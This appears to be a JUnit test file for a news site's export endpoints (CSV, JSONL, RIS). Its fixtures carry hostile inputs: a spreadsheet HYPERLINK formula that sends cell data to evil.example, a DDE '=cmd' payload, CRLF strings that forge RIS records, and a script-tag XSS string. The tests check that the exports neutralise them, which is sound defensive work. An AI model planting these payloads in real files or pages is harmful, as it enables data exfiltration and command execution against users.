package org.dateline.site;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.javalin.Javalin;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.dateline.article.Article;
import org.dateline.index.Sample;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** All results of a search as a file. */
class ExportTest {
    private static final ObjectMapper MAPPER = new ObjectMapper();
    private static final int TOLLS = 1_234;

    @TempDir
    static Path folder;

    private static RealSite real;

    @BeforeAll
    static void start() {
        real = new RealSite(folder, articles());
    }

    @AfterAll
    static void stop() {
        real.close();
    }

    private static List<Article> articles() {
        Stream<Article> many = IntStream.range(0, TOLLS)
                .mapToObj(each -> Sample.named("Tolls " + each)
                        .text("The strait has tolls, part " + each + ".")
                        .article());
        Stream<Article> few = Stream.of(
                Sample.named("=HYPERLINK(\"https://evil.example/?\"&A1,\"grain\")")
                        .text("+1 grain,\"quoted\"\t@x")
                        .source("@Harbour", "")
                        .origin("-Wire")
                        .by("  =cmd|' /C calc'!A0")
                        .day("2026-02-03")
                        .article(),
                Sample.named("Grain rises\r\nTY  - EVIL\r\nER  - ")
                        .text("Grain <script>alert(1)</script>\r\nER  - \r\n rises.")
                        .by("Ada Quill")
                        .by("Ben\r\nTarn")
                        .at("2026-02-04T08:00:00+02:00")
                        .article());
        return Stream.concat(many, few).toList();
    }

    @Test
    void everyArticleFoundIsThereNotAPageOfThem() {
        List<String> lines =
                real.ask.get("/export.jsonl?q=strait&page=3").body().lines().toList();
        assertEquals(TOLLS, lines.size());
        assertEquals(
                TOLLS,
                lines.stream().map(line -> read(line).get("id")).distinct().count());
        assertEquals(
                TOLLS + 1L, csv(real.ask.get("/export.csv?q=strait").body()).size());
        assertEquals(
                TOLLS,
                real.ask
                        .get("/export.ris?q=strait")
                        .body()
                        .lines()
                        .filter("ER  - "::equals)
                        .count());
    }

    @Test
    void theAnswerSaysHowManyThereAreAndHowManyAFileHolds() {
        HttpResponse<String> head = real.ask.head("/export.csv?q=strait");
        assertEquals("1234", head.headers().firstValue("Dateline-Found").orElse(""));
        assertEquals("100000", head.headers().firstValue("Dateline-Most").orElse(""));
        assertEquals("", head.body());
        assertEquals(
                "attachment; filename=\"dateline.csv\"",
                head.headers().firstValue("Content-Disposition").orElse(""));
    }

    @Test
    void aFileEndsAfterItsMost() throws IOException {
        try (Alone alone = new Alone(new ExportRoutes(real.search, 700))) {
            HttpResponse<String> answer = alone.send("/export.jsonl?q=strait");
            assertEquals(700, answer.body().lines().count());
            assertEquals("1234", answer.headers().firstValue("Dateline-Found").orElse(""));
            assertEquals("700", answer.headers().firstValue("Dateline-Most").orElse(""));
        }
    }

    @Test
    void filtersAndOrderAreThoseOfTheSearch() {
        List<String> lines =
                real.ask.get("/export.jsonl?q=grain&sort=newest").body().lines().toList();
        assertEquals(2, lines.size());
        assertEquals(
                "2026-02-04T08:00:00+02:00",
                read(lines.getFirst()).get("published").asText());
        assertEquals(
                1,
                real.ask
                        .get("/export.jsonl?q=grain&source=%40Harbour")
                        .body()
                        .lines()
                        .count());
    }

    @Test
    void noCellOfATableIsAFormula() {
        List<List<String>> table =
                csv(real.ask.get("/export.csv?q=grain&sort=newest").body());
        assertEquals("\ufeffid", table.getFirst().getFirst());
        List<String> hostile = table.get(2);
        assertTrue(hostile.get(1).startsWith("'=HYPERLINK(\"https"), hostile.toString());
        assertEquals("'@Harbour", hostile.get(2));
        assertEquals("'-Wire", hostile.get(3));
        assertEquals("'=cmd|' /C calc'!A0", hostile.get(8));
        assertTrue(hostile.get(13).startsWith("'+1 grain,\"quoted\""), hostile.get(13));
        table.stream()
                .flatMap(List::stream)
                .forEach(cell -> assertFalse(cell.strip().matches("(?s)[=+@-].*"), cell));
    }

    @Test
    void noTextOfAnArticleForgesALineOfRis() {
        String ris = real.ask.get("/export.ris?q=grain&sort=newest").body();
        assertEquals(2, ris.lines().filter(line -> line.startsWith("TY  - ")).count(), ris);
        assertEquals(2, ris.lines().filter("ER  - "::equals).count(), ris);
        assertTrue(ris.contains("\r\nAU  - Ben Tarn\r\n"), ris);
        assertTrue(ris.contains("\r\nDA  - 2026/02/04/\r\n"), ris);
    }

    @ParameterizedTest
    @CsvSource({
        "csv, text/csv",
        "jsonl, application/jsonl",
        "ris, application/x-research-info-systems",
    })
    void aFileIsDownloadedAndNotShown(String form, String type) {
        HttpResponse<String> answer = real.ask.get("/export." + form + "?q=grain");
        String given = answer.headers().firstValue("Content-Type").orElse("");
        assertTrue(given.startsWith(type + ";"), given);
        assertEquals(
                "nosniff", answer.headers().firstValue("X-Content-Type-Options").orElse(""));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/export.xlsx?q=a",
                "/api/articles/abc",
                "/api/nothing",
                "/feed.doc?q=a",
                "/article/00000000000000000000/cite.ris"
            })
    void problemsAreTold(String path) {
        HttpResponse<String> answer = real.ask.get(path);
        assertEquals(404, answer.statusCode());
        assertTrue(answer.headers().firstValue("Content-Type").orElse("").startsWith("application/problem+json"));
        assertEquals(404, read(answer.body()).get("status").asInt());
    }

    @Test
    void aSearchThatFindsNothingIsAFileWithoutArticles() {
        assertEquals("", real.ask.get("/export.jsonl?q=nowhere").body());
        assertEquals(1, csv(real.ask.get("/export.csv?q=nowhere").body()).size());
    }

    @Test
    void aFileThatFailsInTheMiddleIsBrokenOff() {
        try (Alone alone = new Alone(failingAfter(900))) {
            assertThrows(IOException.class, () -> alone.send("/export.csv?q=strait"));
        }
    }

    @Test
    void aFileThatFailsBeforeItBeginsIsAnError() throws IOException {
        try (Alone alone = new Alone(failingAfter(0))) {
            assertEquals(500, alone.send("/export.csv?q=strait").statusCode());
        }
    }

    private static ExportRoutes failingAfter(int articles) {
        AtomicInteger sent = new AtomicInteger();
        return new ExportRoutes(real.search, TOLLS, hit -> {
            if (sent.incrementAndGet() > articles) {
                throw new IllegalStateException("the index is gone");
            }
        });
    }

    private static JsonNode read(String json) {
        try {
            return MAPPER.readTree(json);
        } catch (IOException e) {
            throw new AssertionError(json, e);
        }
    }

    /** The cells of a file, as RFC 4180 reads them. */
    private static List<List<String>> csv(String text) {
        List<List<String>> lines = new ArrayList<>(List.of(new ArrayList<>()));
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < text.length(); i++) {
            char each = text.charAt(i);
            if (quoted && each == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
                cell.append(each);
                i++;
            } else if (each == '"') {
                quoted = !quoted;
            } else if (!quoted && (each == ',' || each == '\n')) {
                lines.getLast().add(cell.toString().replaceFirst("\r$", ""));
                cell.setLength(0);
                if (each == '\n') {
                    lines.add(new ArrayList<>());
                }
            } else {
                cell.append(each);
            }
        }
        lines.removeLast();
        return lines;
    }

    /** The exports without the rest of the site. */
    private static final class Alone implements AutoCloseable {
        private final Javalin server;

        Alone(ExportRoutes exports) {
            server = Javalin.create(config -> config.routes.get("/export.{form}", exports::export))
                    .start("127.0.0.1", 0);
        }

        HttpResponse<String> send(String path) throws IOException {
            try {
                return HttpClient.newHttpClient()
                        .send(
                                HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + server.port() + path))
                                        .build(),
                                HttpResponse.BodyHandlers.ofString());
            } catch (InterruptedException e) {
                throw new AssertionError(e);
            }
        }

        @Override
        public void close() {
            server.stop();
        }
    }
}
